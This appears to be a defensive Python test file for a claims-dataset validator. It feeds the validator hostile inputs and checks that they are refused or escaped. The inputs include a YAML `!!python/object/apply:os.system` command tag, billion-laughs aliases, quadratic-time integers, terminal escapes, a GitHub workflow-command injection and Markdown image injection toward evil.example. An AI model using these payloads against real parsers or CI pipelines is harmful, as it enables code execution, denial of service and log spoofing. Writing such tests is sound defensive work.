def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "KEYTOKEN"}})
    text = yaml_text(rows)
    text = text.replace(
        "assertion: KEYTOKEN",
        "assertion: Claim 1 says that Iran and Russia keep working together.\n"
        "  1: one\n  null: nothing\n  2.5: half\n  2024-01-01: day",
    )
    write(d / "claims.yaml", text)
    return cli("claims.yaml")


@case(
    "yaml_complex_keys",
    "yaml",
    unreadable(),
    "a key that is a list (? [a, b]) and one that is a mapping: unhashable, refused as YAML "
    "that is not a claims file",
)
def _(d: Path) -> Invocation:
    text = yaml_text(changed(2, {0: {"assertion": "KEYTOKEN"}}))
    text = text.replace(
        "assertion: KEYTOKEN",
        "assertion: Claim 1 says that Iran and Russia keep working together.\n"
        "  ? [a, b]\n  : 1\n  ? {c: d}\n  : 2",
    )
    write(d / "claims.yaml", text)
    return cli("claims.yaml")


@case(
    "yaml_lone_surrogate",
    "yaml",
    unreadable(row=1, column="assertion"),
    SURROGATE_WHY,
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "SURTOKEN"}})
    text = yaml_text(rows, {"SURTOKEN": '"Iran and Russia \\ud800 are close partners."'})
    write(d / "claims.yaml", text)
    return cli("claims.yaml", _good_second(d))


@case(
    "yaml_escape_sequences",
    "yaml",
    broken(Expect("assertion_no_control_chars", 1, "assertion")),
    'a double-quoted assertion with "\\e[2J" (YAML\'s escape for ESC)',
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "ESCTOKEN"}})
    value = '"\\e[2J\\e[1;31mIran and Russia\\e[0m agree on everything, it says."'
    write(d / "claims.yaml", yaml_text(rows, {"ESCTOKEN": value}))
    return cli("claims.yaml")


@case(
    "yaml_raw_control_byte",
    "yaml",
    unreadable(),
    "a raw ESC byte in a plain scalar: YAML forbids it in the stream",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "ESCTOKEN"}})
    text = yaml_text(rows, {"ESCTOKEN": "Iran and Russia \x1b[2J agree on everything."})
    write(d / "claims.yaml", text)
    return cli("claims.yaml")


@case(
    "yaml_5000_digit_integer",
    "yaml",
    [broken(Expect("type", 1, "start")), unreadable(row=1)],
    "start is a 5000-digit integer (PyYAML's int() raises ValueError on it)",
)
def _(d: Path) -> Invocation:
    write(
        d / "claims.yaml",
        yaml_text(changed(2, {0: {"start": "T"}}), {"start: T": "start: " + HUGE_INT}),
    )
    return cli("claims.yaml")


@case(
    "yaml_sexagesimal_integer",
    "yaml",
    [broken(Expect("type", 1, "start")), unreadable(row=1)],
    "start is a YAML 1.1 base-60 integer of 500,000 parts (1:0:0:...), under the 1 MiB claim "
    "limit: PyYAML's constructor multiplies an ever larger base by 60 for each part, quadratic "
    "time, and int()'s 4300-digit guard never sees it; it must be refused or read in seconds",
    timeout=30.0,
)
def _(d: Path) -> Invocation:
    write(
        d / "claims.yaml",
        yaml_text(changed(2, {0: {"start": "T"}}), {"start: T": "start: 1" + ":0" * 500_000}),
    )
    return cli("claims.yaml")


@case(
    "yaml_600k_empty_mappings_in_extra_field",
    "yaml",
    broken(Expect("no_extra_fields", column="extra")),
    "two claims whose extra field is a flow list of 300,000 {} (1.8 MB, within every limit): "
    "1.2 million parser events; a 32 MiB YAML file, which the README accepts, must not take "
    "minutes",
    timeout=20.0,
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"extra": "T"}, 1: {"extra": "T"}})
    write(d / "claims.yaml", yaml_text(rows, {"extra: T": "extra: [" + "{}," * 300_000 + "{}]"}))
    return cli("claims.yaml")


@case(
    "yaml_30000_distinct_keys",
    "yaml",
    broken(Expect("no_extra_fields", column="k00001")),
    "30,000 records each with one distinct extra key (400 KB)",
)
def _(d: Path) -> Invocation:
    write(d / "claims.yaml", "".join(f"- {{k{i:05d}: 0}}\n" for i in range(1, 30_001)))
    return cli("claims.yaml")


@case(
    "yaml_sparse_40mb_file",
    "yaml",
    unreadable(),
    "a 40 MB file (sparse: nothing on disk), over the 32 MiB YAML limit",
)
def _(d: Path) -> Invocation:
    with (d / "claims.yaml").open("wb") as f:
        f.truncate(40 * MiB)
    return cli("claims.yaml")


@case("yaml_two_documents", "yaml", unreadable(), "two YAML documents in one file")
def _(d: Path) -> Invocation:
    write(d / "claims.yaml", yaml_text(records(1)) + "---\n" + yaml_text(records(1)))
    return cli("claims.yaml")


# --- the API -------------------------------------------------------------------------------------

PRELUDE = '''\
import json
import sys

import numpy as np
import pandas as pd

import iran_russia_claims as irc
from iran_russia_claims.validation.report import ValidationReport, render_json

with open("records.json", encoding="utf-8") as handle:
    RECORDS = json.load(handle)


def frame(n=3):
    """The records as a DataFrame whose text columns hold Python objects (pandas 3 infers
    its own string dtype, which refuses the hostile values the cases put in a cell)."""
    df = pd.DataFrame([dict(r) for r in RECORDS[:n]])
    for name in df.columns:
        if pd.api.types.is_string_dtype(df[name].dtype) and df[name].dtype != object:
            df[name] = df[name].astype(object)
    return df


def emit(report):
    """As a caller would: the JSON report on stdout, then print(report.render())."""
    sys.stdout.write(json.dumps(render_json([report]), indent=2, ensure_ascii=False) + "\\n")
    sys.stdout.flush()
    print(report.render(), file=sys.stderr)
    sys.exit(report.exit_code())


'''


def api(body: str, n: int = 10) -> Callable[[Path], Invocation]:
    """A builder writing the script: the prelude, then ``body``, which calls ``emit``."""

    def build(d: Path) -> Invocation:
        write(d / "records.json", json.dumps(records(n)))
        write(d / "case.py", PRELUDE + textwrap.dedent(body))
        return Invocation(script="case.py", inputs=("<DataFrame>",))

    return build


def api_case(name: str, outcomes: Any, why: str, body: str, **options: Any) -> None:
    case(name, "api", outcomes, why, **options)(api(body))


api_case(
    "api_valid",
    ok(),
    "control: validate() on a valid DataFrame",
    """
    emit(irc.validate(frame()))
    """,
)

api_case(
    "api_self_referential_cells",
    broken(Expect("type", 1, "hedges"), Expect("type", 2, "actors")),
    "a hedges list that holds itself and an actors dict that holds itself (issue 16 a: nested "
    "lists reach pyarrow.array unchecked)",
    """
    df = frame()
    loop = ["likely"]
    loop.append(loop)
    ring = {}
    ring["self"] = ring
    df.at[0, "hedges"] = loop
    df.at[1, "actors"] = ring
    emit(irc.validate(df))
    """,
)

api_case(
    "api_deeply_nested_lists",
    broken(Expect("type", 1, "hedges"), Expect("type", 2, "actors")),
    "hedges nested 100,000 lists deep, actors 1,000 deep",
    """
    def deep(n):
        value = "x"
        for _ in range(n):
            value = [value]
        return value

    df = frame()
    df.at[0, "hedges"] = deep(100_000)
    df.at[1, "actors"] = deep(1_000)
    emit(irc.validate(df))
    """,
)

api_case(
    "api_200mb_cell",
    broken(Expect("assertion_length", 1, "assertion")),
    "a 200 MB assertion in a DataFrame: one problem, with the value shortened",
    """
    df = frame()
    df.at[0, "assertion"] = "z" * 200_000_000
    emit(irc.validate(df))
    """,
    input_bytes=200_000_000,
)

api_case(
    "api_arrow_dictionary_assertions",
    broken(Expect("assertion_length", 1, "assertion")),
    "10,000 assertions held as one pyarrow dictionary (pd.ArrowDtype, as pd.read_parquet gives "
    "with dtype_backend='pyarrow'): one 100 KB value, 1 GB if expanded at once; the frame "
    "holds about 1 MB, and validate() must expand it a few rows at a time",
    """
    import pyarrow as pa

    n = 10_000
    df = pd.DataFrame([dict(RECORDS[i % len(RECORDS)], id=f"IRR-{i + 1:05d}") for i in range(n)])
    value = pa.array(["Iran and Russia " + "x" * 100_000])
    column = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, np.int32)), value)
    df["assertion"] = pd.Series(pd.arrays.ArrowExtensionArray(column))
    emit(irc.validate(df))
    """,
    input_bytes=1_000_000,
    timeout=60.0,
)

api_case(
    "api_lone_surrogate",
    [
        unreadable(row=1, column="assertion"),
        broken(Expect(("type", "assertion_no_control_chars"), 1, "assertion")),
    ],
    "a lone surrogate in an assertion (issue 16 c: the API raises UnicodeEncodeError): a "
    "located problem, as 'not valid Unicode' (readable) or as a rule of the cell",
    """
    df = frame()
    df.at[0, "assertion"] = "Iran and Russia \\ud800 are close partners."
    emit(irc.validate(df))
    """,
)

api_case(
    "api_non_string_column_names",
    broken(Expect("no_extra_fields", column="0"), Expect("no_extra_fields", column="None")),
    "extra columns named 0, ('a', 'b'), None and 2.5",
    """
    df = frame()
    for name in (0, ("a", "b"), None, 2.5):
        df[name] = 1
    emit(irc.validate(df))
    """,
)

api_case(
    "api_column_str_collision",
    broken(Expect("no_extra_fields", column="id")),
    "an extra column labelled by an object whose str() is 'id', beside the real 'id'",
    """
    class Sneaky:
        def __str__(self):
            return "id"

        def __repr__(self):
            return "id"

    df = frame()
    df[Sneaky()] = "IRR-9999"
    emit(irc.validate(df))
    """,
)

api_case(
    "api_hostile_objects",
    broken(*[Expect("type", r, "assertion") for r in (1, 2, 3, 4, 5)]),
    "assertions that are objects whose __repr__ raises, __str__ raises, __eq__ raises, "
    "__hash__ raises, or whose repr is 50 MB",
    """
    class BadRepr:
        def __repr__(self):
            raise RuntimeError("repr refused")

    class BadStr:
        def __str__(self):
            raise RuntimeError("str refused")

    class BadEq:
        def __eq__(self, other):
            raise RuntimeError("eq refused")

        __hash__ = object.__hash__

    class BadHash:
        def __hash__(self):
            raise RuntimeError("hash refused")

    class HugeRepr:
        def __repr__(self):
            return "r" * 50_000_000

    df = frame(5)
    for i, value in enumerate([BadRepr(), BadStr(), BadEq(), BadHash(), HugeRepr()]):
        df.at[i, "assertion"] = value
    emit(irc.validate(df))
    """,
)

api_case(
    "api_numpy_array_cells",
    broken(Expect("type", 2, "hedges"), Expect("type", 3, "hedges")),
    "hedges as NumPy object arrays: 1-D of strings (a list, valid), 2-D and 0-D (not lists)",
    """
    df = frame()
    df.at[0, "hedges"] = np.array(["likely"], dtype=object)
    df.at[1, "hedges"] = np.array([["a", "b"], ["c", "d"]], dtype=object)
    df.at[2, "hedges"] = np.array("likely", dtype=object)
    emit(irc.validate(df))
    """,
)

api_case(
    "api_bytes_cells",
    broken(Expect("type", 1, "id"), Expect("type", 1, "assertion"), Expect("type", 2, "actors")),
    "bytes where text belongs, and a bytes value as the actors list",
    """
    df = frame()
    df.at[0, "id"] = b"IRR-0001"
    df.at[0, "assertion"] = b"Iran and Russia \\x1b[2J are close partners."
    df.at[1, "actors"] = b"IRN"
    emit(irc.validate(df))
    """,
)

api_case(
    "api_na_and_nat",
    broken(
        Expect("required", 1, "assertion"),
        Expect("required", 2, "start"),
        Expect("required", 3, "hedges"),
    ),
    "pd.NA as an assertion, pd.NaT as a start, pd.NA as hedges: missing values",
    """
    df = frame()
    df["assertion"] = df["assertion"].astype(object)
    df["start"] = df["start"].astype(object)
    df.at[0, "assertion"] = pd.NA
    df.at[1, "start"] = pd.NaT
    df.at[2, "hedges"] = pd.NA
    emit(irc.validate(df))
    """,
)

api_case(
    "api_multiindex_columns",
    broken(Expect(("required", "no_extra_fields", "type"))),
    "columns as a two-level MultiIndex ('claims', name): no column is named as a claim column",
    """
    df = frame()
    df.columns = pd.MultiIndex.from_tuples([("claims", c) for c in df.columns])
    emit(irc.validate(df))
    """,
)

api_case(
    "api_multiindex_rows",
    broken(Expect("confidence_range", 2, "confidence")),
    "a MultiIndex of rows; record 2 is out of range: its row is its position plus 1",
    """
    df = frame()
    df.index = pd.MultiIndex.from_tuples([(1, "a"), (1, "b"), (2, "a")])
    df["confidence"] = [0.9, 1.5, 0.9]
    emit(irc.validate(df))
    """,
)

api_case(
    "api_duplicated_columns",
    broken(Expect("no_extra_fields", column="assertion")),
    "'assertion' twice",
    """
    df = frame()
    df = pd.concat([df, df[["assertion"]]], axis=1)
    emit(irc.validate(df))
    """,
)

api_case(
    "api_dict_and_list_subclasses",
    broken(Expect("type", 1, "actors"), Expect("type", 2, "hedges")),
    "actors as a dict subclass whose iteration raises; hedges as a list subclass whose len() "
    "lies, holding a number",
    """
    class EvilDict(dict):
        def __iter__(self):
            raise RuntimeError("iteration refused")

    class LyingList(list):
        def __len__(self):
            return 10**9

    df = frame()
    df.at[0, "actors"] = EvilDict(IRN=1)
    df.at[1, "hedges"] = LyingList(["likely", 5])
    emit(irc.validate(df))
    """,
)

api_case(
    "api_exotic_numbers",
    broken(
        Expect("type", 1, "start"),
        Expect("type", 2, "confidence"),
        Expect("type", 3, "confidence"),
        Expect("type", 4, "end"),
    ),
    "start 10**30, confidence a Decimal, confidence a complex, end a 5000-digit int",
    """
    import decimal

    df = frame(4)
    for name in ("start", "end", "confidence"):
        df[name] = df[name].astype(object)
    df.at[0, "start"] = 10**30
    df.at[1, "confidence"] = decimal.Decimal("0.7")
    df.at[2, "confidence"] = 0.7 + 1j
    sys.set_int_max_str_digits(10_000)
    df.at[3, "end"] = int("9" * 5000)
    sys.set_int_max_str_digits(4300)
    emit(irc.validate(df))
    """,
)

api_case(
    "api_huge_index_label",
    broken(Expect("confidence_range", 1, "confidence")),
    "index label 2**63 - 1 on a record out of range: label + 1 does not fit a row number, so "
    "rows are the records' positions (as for an index that is not whole numbers), never a "
    "wrapped negative",
    """
    df = frame()
    df.index = [2**63 - 1, 0, 1]
    df["confidence"] = [1.5, 0.9, 0.9]
    emit(irc.validate(df))
    """,
)

api_case(
    "api_escape_in_column_name",
    broken(Expect("no_extra_fields", column=ESCAPED_NAME)),
    "an extra column named with terminal escapes: report.render() must be safe to print",
    f"""
    df = frame()
    df[{ESCAPED_NAME!r}] = 1
    emit(irc.validate(df))
    """,
)

api_case(
    "api_arrow_nested_dtype",
    broken(Expect("type", column="hedges")),
    "hedges as an Arrow-backed list<list<string>> column",
    """
    import pyarrow as pa

    df = frame()
    dtype = pd.ArrowDtype(pa.list_(pa.list_(pa.string())))
    df["hedges"] = pd.Series([[["a"]], [], [["b", "c"]]], dtype=dtype)
    emit(irc.validate(df))
    """,
)

api_case(
    "api_str_subclass",
    [ok(), broken(Expect("type", 1, "assertion"))],
    "an assertion that is a str subclass whose __eq__, __hash__ and __len__ raise: text (valid), "
    "or refused as not plain text",
    """
    class EvilStr(str):
        def __eq__(self, other):
            raise RuntimeError("eq refused")

        def __hash__(self):
            raise RuntimeError("hash refused")

        def __len__(self):
            raise RuntimeError("len refused")

    df = frame()
    df.at[0, "assertion"] = EvilStr(df.at[0, "assertion"])
    emit(irc.validate(df))
    """,
)

case(
    "api_path_with_nul",
    "api",
    unreadable(file="claims\x00.csv"),
    "validate() on a path holding a NUL character: no such file",
)(
    lambda d: Invocation(
        script=api('emit(irc.validate("claims\\x00.csv"))')(d).script, inputs=("claims\x00.csv",)
    )
)

api_case(
    "api_empty_frame",
    broken(Expect("not_empty")),
    "pd.DataFrame() with no rows and no columns",
    """
    emit(irc.validate(pd.DataFrame()))
    """,
)

MODEL = '''
from pydantic import ValidationError

from iran_russia_claims.spec.models import Claim, errors_to_rules
from iran_russia_claims.spec.problem import Problem


def model_report(values):
    """Claim.model_validate on each record: bad data is a ValidationError, nothing else."""
    report = ValidationReport(target="<DataFrame>", format="dataframe")
    for row, record in enumerate(values, start=1):
        report.rows += 1
        try:
            Claim.model_validate(record)
        except ValidationError as exc:
            for rule, column, message in errors_to_rules(exc):
                report.add(Problem(rule, message, "<DataFrame>", row=row, column=column or None))
    return report


'''

api_case(
    "api_model_hostile_records",
    broken(
        Expect("type", 1, "hedges"),
        Expect("type", 2, "actors"),
        Expect("type", 3, "start"),
        Expect(("type", "assertion_no_control_chars"), 4, "assertion"),
    ),
    "Claim.model_validate on records with a self-referential list, a list nested 100,000 deep, "
    "a 5000-digit start and a lone surrogate: ValidationError for each, nothing else",
    MODEL
    + textwrap.dedent(
        """
    def deep(n):
        value = "x"
        for _ in range(n):
            value = [value]
        return value

    values = [dict(r) for r in RECORDS[:4]]
    loop = ["likely"]
    loop.append(loop)
    values[0]["hedges"] = loop
    values[1]["actors"] = deep(100_000)
    sys.set_int_max_str_digits(10_000)
    values[2]["start"] = int("9" * 5000)
    sys.set_int_max_str_digits(4300)
    values[3]["assertion"] = "Iran and Russia \\ud800 are close partners."
    emit(model_report(values))
    """
    ),
)


# --- --dataset DIR: hostile collection YAML ---------------------------------------------------


def collection(d: Path, name: str = "col") -> Path:
    """A copy of the shipped collection's manifest and registries in ``d / name``, and a valid
    claims file beside it."""
    folder = d / name
    folder.mkdir()
    manifest = yaml.safe_load((DATASET / "collection.yaml").read_text(encoding="utf-8"))
    manifest.pop("articles", None)
    write(folder / "collection.yaml", yaml.safe_dump(manifest, sort_keys=False))
    for registry in ("actors.yaml", "sources.yaml"):
        shutil.copy(DATASET / registry, folder / registry)
    write(d / "claims.csv", csv_text(records()))
    return folder


def dataset_case(
    name: str, outcomes: Any, why: str, mutate: Callable[[Path], None], **options: Any
) -> None:
    def build(d: Path) -> Invocation:
        mutate(collection(d))
        return cli("claims.csv", "--dataset", "col")

    options.setdefault("report", False)
    case(name, "dataset", outcomes, why, **options)(build)


def refused(file: str) -> Outcome:
    return Outcome(2, stderr_has=(file, "readable"))


def rejected(file: str) -> Outcome:
    return Outcome(1, stderr_has=(file,))


def _set_text(file: str, text: str | bytes) -> Callable[[Path], None]:
    return lambda folder: write(folder / file, text)


dataset_case(
    "dataset_valid",
    ok(),
    "control: a copy of the shipped collection",
    lambda folder: None,
    report=True,
)
dataset_case(
    "dataset_deeply_nested_actors",
    refused("actors.yaml"),
    "actors.yaml is 100,000 nested flow lists (issue 16 e: a full traceback today)",
    _set_text("actors.yaml", "actors: " + nested(100_000)),
)
dataset_case(
    "dataset_deeply_nested_manifest",
    refused("collection.yaml"),
    "collection.yaml's title is 100,000 nested flow mappings",
    _set_text("collection.yaml", "title: " + nested(100_000, "{a: ", "}", "1")),
)
dataset_case(
    "dataset_billion_laughs_sources",
    refused("sources.yaml"),
    "sources.yaml holds nested aliases (9^9 leaves from 2 KB) as a source's sections",
    lambda folder: write(
        folder / "sources.yaml",
        "lol:\n  - &l0 lol\n"
        + LAUGHS
        + (folder / "sources.yaml")
        .read_text(encoding="utf-8")
        .replace("    sections:\n", "    sections: *l9\n    unused:\n", 1),
    ),
)
dataset_case(
    "dataset_self_referential_actors",
    [refused("actors.yaml"), rejected("actors.yaml")],
    "actors: &a [*a]: a registry list that holds itself",
    _set_text("actors.yaml", "actors: &a [*a]\n"),
)
dataset_case(
    "dataset_lone_surrogate_code",
    [refused("actors.yaml"), rejected("actors.yaml")],
    'an actor code "\\ud800" (the code breaks its pattern, and cannot be printed as UTF-8)',
    _set_text("actors.yaml", 'actors:\n  - {code: "\\ud800", name: X, kind: group}\n'),
)


def _sparse(file: str) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        with (folder / file).open("wb") as f:
            f.truncate(40 * MiB)

    return mutate


dataset_case(
    "dataset_sparse_40mb_actors",
    refused("actors.yaml"),
    "actors.yaml is 40 MB (sparse), over the YAML limit",
    _sparse("actors.yaml"),
)
dataset_case(
    "dataset_wrong_types",
    rejected("actors.yaml"),
    "actors that are a number, a string, null and a mapping with a list as its code",
    _set_text("actors.yaml", "actors: [5, x, null, {code: [1], name: X, kind: group}]\n"),
)


def _replace_with_symlink(file: str, target: str) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        (folder / file).unlink()
        (folder / file).symlink_to(target)

    return mutate


dataset_case(
    "dataset_actors_dev_zero",
    refused("actors.yaml"),
    "actors.yaml is a symlink to /dev/zero: its size reads 0, then read_text() reads forever",
    _replace_with_symlink("actors.yaml", "/dev/zero"),
    timeout=30,
)


def _replace_with_fifo(file: str) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        (folder / file).unlink()
        _fifo(folder / file)

    return mutate


dataset_case(
    "dataset_sources_fifo",
    refused("sources.yaml"),
    "sources.yaml is a FIFO with no writer: refused, not waited on",
    _replace_with_fifo("sources.yaml"),
    skip=NO_FIFO,
    timeout=30,
)
dataset_case(
    "dataset_complex_keys_manifest",
    refused("collection.yaml"),
    "collection.yaml has a key that is a list (? [a, b]): unhashable",
    lambda folder: write(
        folder / "collection.yaml",
        (folder / "collection.yaml").read_text(encoding="utf-8") + "? [a, b]\n: 1\n",
    ),
)
dataset_case(
    "dataset_python_tag_manifest",
    refused("collection.yaml"),
    "collection.yaml's title is a !!python/object/apply tag",
    lambda folder: write(
        folder / "collection.yaml",
        "title: !!python/object/apply:os.system ['touch pwned']\n",
    ),
    after=lambda d: _no_pwned(d) + _no_pwned(d / "col"),
)
dataset_case(
    "dataset_escape_in_code",
    rejected("actors.yaml"),
    "an actor code holding terminal escapes: the problem printed on stderr must show it escaped",
    _set_text("actors.yaml", 'actors:\n  - {code: "\\e[2J\\e]0;x\\a", name: X, kind: group}\n'),
    formats=("json", "text"),
)
dataset_case(
    "dataset_5000_digit_length",
    [rejected("sources.yaml"), refused("sources.yaml")],
    "a source's length is a 5000-digit integer",
    lambda folder: write(
        folder / "sources.yaml",
        (folder / "sources.yaml")
        .read_text(encoding="utf-8")
        .replace("length: 9747", "length: " + HUGE_INT),
    ),
)


def _hostile_dir(d: Path) -> Invocation:
    name = "col\x1b[2J\n::error file=x::pwned"
    folder = collection(d, name)
    write(folder / "actors.yaml", "actors: 5\n")
    return cli("claims.csv", "--dataset", name)


case(
    "dataset_hostile_folder_name",
    "dataset",
    Outcome(2, stderr_has=("readable",)),
    "a collection folder named with escapes and a workflow command, whose actors.yaml is "
    "not a list: the refusal names it safely",
    report=False,
    formats=("json", "text", "github"),
)(_hostile_dir)


# --- more hunting: paths, the summary, many files, articles --------------------------------


@case(
    "jsonl_deeply_nested_extra_field",
    "jsonl",
    [unreadable(row=2), broken(Expect("no_extra_fields", column="notes"))],
    "line 2 has an extra field of 50,000 nested objects (pyarrow's JSON reader recurses on "
    "nested objects)",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {1: {"notes": "DEEPTOKEN"}})
    write(d / "claims.jsonl", jsonl_text(rows, {"DEEPTOKEN": nested(50_000, '{"a":', "}", "1")}))
    return cli("claims.jsonl")


LONG_NAME = "n" * 300 + ".csv"


@case(
    "fs_name_too_long",
    "fs",
    Outcome(2, (Expect("readable", file=LONG_NAME),)),
    "a path whose name is 300 bytes (over NAME_MAX): unreadable, and the next file still checked",
)
def _(d: Path) -> Invocation:
    return cli(LONG_NAME, _good_second(d))


@case(
    "fs_symlink_loop",
    "fs",
    unreadable(),
    "claims.csv is a symlink to itself",
)
def _(d: Path) -> Invocation:
    (d / "claims.csv").symlink_to("claims.csv")
    return cli("claims.csv")


@case(
    "csv_header_quoted_newline",
    "csv",
    broken(Expect("required", column="id"), Expect("no_extra_fields", column="x\nid")),
    "the header's first name is quoted and holds a line break (x<LF>id): a CSV header may span "
    "lines; so column 'id' is missing and 'x<LF>id' is extra",
)
def _(d: Path) -> Invocation:
    text = csv_text(records(), ["x\nid", *COLUMNS[1:]])
    write(d / "claims.csv", text)
    return cli("claims.csv")


MARKDOWN = "![pixel](https://evil.example/p.png)"


def _summary_is_inert(d: Path) -> list[str]:
    """The job summary renders Markdown: foreign text must not become images or links."""
    path = d / "summary.md"
    if not path.is_file():
        return ["no summary written"]
    text = path.read_text(encoding="utf-8", errors="backslashreplace")
    failures = []
    for live in ("![pixel](https://evil.example", "[click](https://evil.example"):
        if live in text:
            failures.append(f"the summary holds live Markdown from the input: {live}...")
    if any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in text):
        failures.append("the summary holds raw control characters")
    return failures


@case(
    "summary_markdown_injection",
    "names",
    broken(Expect("no_extra_fields", column=MARKDOWN), Expect("id_pattern", 2, "id")),
    "--summary FILE (a GitHub job summary, rendered as Markdown) for a file with a column named "
    "as a remote image and an id that is a link: the summary must show them as text",
    after=_summary_is_inert,
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"id": "[click](https://evil.example)"}})
    rows = [dict(r, **{MARKDOWN: "x"}) for r in rows]
    write(d / "claims.csv", csv_text(rows, [*COLUMNS, MARKDOWN]))
    return cli("claims.csv", "--summary", "summary.md")


@case(
    "summary_fifo",
    "fs",
    Outcome(2, stderr_has=("summary.fifo",)),
    "--summary names a FIFO nobody reads: opening it to append waits forever; a special file "
    "is refused without opening it, as the claims files are",
    report=False,
    timeout=15.0,
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records(2)))
    os.mkfifo(d / "summary.fifo")
    return cli("claims.csv", "--summary", "summary.fifo")


@case(
    "summary_dev_full",
    "fs",
    Outcome(2, stderr_has=("/dev/full",)),
    "--summary /dev/full: every write fails (ENOSPC, raised when the file is closed, without a "
    "file name); the error must name the summary file, not 'a file'",
    report=False,
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records(2)))
    return cli("claims.csv", "--summary", "/dev/full")


@case(
    "json_numbers_out_of_range",
    "json",
    broken(
        Expect("type", 1, "start"),
        Expect("offsets_ordered", 2, "end"),
        Expect("confidence_range", 3, "confidence"),
        Expect("type", 4, "start"),
    ),
    "start 1e400 (infinite as a float), end -0, confidence 1E+2, start -0.0: each a located "
    "problem of its own rule",
)
def _(d: Path) -> Invocation:
    rows = changed(
        4, {0: {"start": "A"}, 1: {"end": "B"}, 2: {"confidence": "C"}, 3: {"start": "D"}}
    )
    write(d / "claims.json", json_text(rows, {"A": "1e400", "B": "-0", "C": "1E+2", "D": "-0.0"}))
    return cli("claims.json")


@case(
    "many_files_500",
    "fs",
    Outcome(1, (Expect("confidence_range", 2, "confidence"),)),
    "500 small files on one command line, each with one broken rule: one report each, in "
    "bounded time and memory",
)
def _(d: Path) -> Invocation:
    text = csv_text(changed(1, {0: {"confidence": 1.5}}))
    names = [f"claims-{i:03d}.csv" for i in range(500)]
    for name in names:
        write(d / name, text)
    return cli(*names)


@case(
    "source_dev_zero",
    "fs",
    Outcome(2, stderr_has=("zero.txt",)),
    "--source names a symlink to /dev/zero: an article that is not a regular file is refused "
    "(exit 2) promptly, not hashed forever",
    report=False,
    timeout=30,
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records()))
    _symlink("/dev/zero", d / "zero.txt")
    return cli("claims.csv", "--source", "zero.txt")


@case(
    "source_fifo",
    "fs",
    Outcome(2, stderr_has=("article.txt",)),
    "--source names a FIFO with no writer: refused, not waited on",
    report=False,
    skip=NO_FIFO,
    timeout=30,
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records()))
    _fifo(d / "article.txt")
    return cli("claims.csv", "--source", "article.txt")


# --- link tables: validate CLAIMS --dyads/--relations/--coding FILE ------------------------------
#
# The claims file is valid (records(n): IRR-0001.. of one article, actors IRN and RUS) and is
# the report's one input; a link table's problems name the link file. Rows as for claims: a
# CSV's header is row 1, JSON Lines rows are lines, JSON, YAML and Parquet records count from 1.

DYADS_FILE = "claim_dyads"
RELATIONS_FILE = "claim_relations"
CODING_FILE = "claim_coding"
DYAD_COLUMNS = ("claim_id", "source", "target", "mutual", "quad_class", "coded_by",
                "codebook_version")  # fmt: skip
RELATION_COLUMNS = ("from_id", "to_id", "relation", "ground", "coded_by", "codebook_version")
CODING_COLUMNS = ("claim_id", "coded_by", "codebook_version")


def dyads(n: int = 3) -> list[dict[str, Any]]:
    """One valid mutual dyad IRN->RUS for each of the claims IRR-0001.. IRR-n."""
    return [
        {
            "claim_id": f"IRR-{i:04d}",
            "source": "IRN",
            "target": "RUS",
            "mutual": True,
            "quad_class": "verbal_cooperation",
            "coded_by": "pass1",
            "codebook_version": "1.1",
        }
        for i in range(1, n + 1)
    ]


def edges(n: int = 3) -> list[dict[str, Any]]:
    """A valid chain of supports edges IRR-0001 -> IRR-0002 -> ... -> IRR-n."""
    return [
        {
            "from_id": f"IRR-{i:04d}",
            "to_id": f"IRR-{i + 1:04d}",
            "relation": "supports",
            "ground": "connective",
            "coded_by": "pass1",
            "codebook_version": "1.1",
        }
        for i in range(1, n)
    ]


def codings(n: int = 3) -> list[dict[str, Any]]:
    return [
        {"claim_id": f"IRR-{i:04d}", "coded_by": "pass1", "codebook_version": "1.1"}
        for i in range(1, n + 1)
    ]


def link_csv(rows: list[dict[str, Any]], columns: Iterable[str]) -> str:
    """A link table as the exports write it: booleans as true/false, missing as empty."""

    def cell(value: Any) -> str:
        if isinstance(value, bool):
            return "true" if value else "false"
        return "" if value is None else str(value)

    columns = list(columns)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([cell(row.get(c)) for c in columns])
    return out.getvalue()


def with_claims(d: Path, n: int = 3) -> str:
    """The valid claims file the link files are checked against."""
    write(d / "claims.csv", csv_text(records(n)))
    return "claims.csv"


def on_link(rule: str | tuple[str, ...], file: str, row: int | None = None,
            column: str | None = None) -> Expect:  # fmt: skip
    """A problem the report must hold, naming the link file ``file``."""
    return Expect(rule, row, column, file)


def link_unreadable(file: str, row: int | None = None) -> Outcome:
    return Outcome(2, (on_link("readable", file, row),))


@case(
    "links_valid",
    "links",
    ok(),
    "control: three claims with their dyads (CSV), edges (JSON) and codings (Parquet)",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    write(d / "claim_dyads.csv", link_csv(dyads(), DYAD_COLUMNS))
    write(d / "claim_relations.json", json.dumps(edges(), indent=1))
    _pq_write(pa.Table.from_pylist(codings()), d / "claim_coding.parquet")
    return cli(with_claims(d), "--dyads", "claim_dyads.csv", "--relations",
               "claim_relations.json", "--coding", "claim_coding.parquet")  # fmt: skip


@case(
    "links_valid_yaml_jsonl",
    "links",
    ok(),
    "control: dyads as curated YAML (dyads:), edges as JSON Lines, codings as YAML (codings:)",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    write(d / "claim_dyads.yaml", yaml.safe_dump({"dyads": dyads()}, sort_keys=False))
    write(d / "claim_relations.jsonl", jsonl_text(edges()))
